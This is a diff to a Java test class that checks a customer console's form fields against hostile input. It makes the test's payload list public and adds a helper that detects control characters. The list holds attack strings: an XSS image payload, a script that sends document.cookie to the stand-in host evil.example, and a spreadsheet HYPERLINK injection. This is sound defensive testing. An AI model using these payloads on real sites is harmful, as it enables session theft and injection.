@@ -39,9 +39,9 @@ import org.springframework.security.crypto.password.PasswordEncoder;
  * lookups) with what an attacker or a careless paste would type: each is either refused with a message that names
  * the field, leaving nothing saved or changed, or kept exactly.
  */
-class HostileInputTest extends ConsoleTest {
+public class HostileInputTest extends ConsoleTest {
 
-    static final List<String> HOSTILE = List.of(
+    public static final List<String> HOSTILE = List.of(
             "<img src=x onerror=alert(1)>",
             "<script>document.location='http://evil.example/'+document.cookie</script>",
             "x".repeat(10_000),
@@ -55,6 +55,12 @@ class HostileInputTest extends ConsoleTest {
             "zero\u200Bwidth",
             "Ünïcödé 名前 \uD83D\uDE00\uD83C\uDDE9\uD83C\uDDEA",
             "=HYPERLINK(\"http://evil.example\")");
+
+    /** Whether the text has what no single line takes: a line break, a tab, a control or formatting character. */
+    public static boolean notOneLine(String text) {
+        return text.strip().codePoints().anyMatch(c -> Character.isISOControl(c)
+                || Character.getType(c) == Character.FORMAT);
+    }
 
     private record Field(String label, BiFunction<CustomerDraft, String, CustomerDraft> with,
             Function<Customer, @Nullable String> read) {
@@ -285,7 +291,7 @@ class HostileInputTest extends ConsoleTest {
         }
     }
 
-    private static void assertRefused(Throwable refusal, String label, String hostile) {
+    public static void assertRefused(Throwable refusal, String label, String hostile) {
         assertThat(refusal).as("%s with %s", label, hostile.length() > 40 ? hostile.substring(0, 40) : hostile)
                 .isInstanceOf(InvalidInputException.class);
         var invalid = (InvalidInputException) refusal;
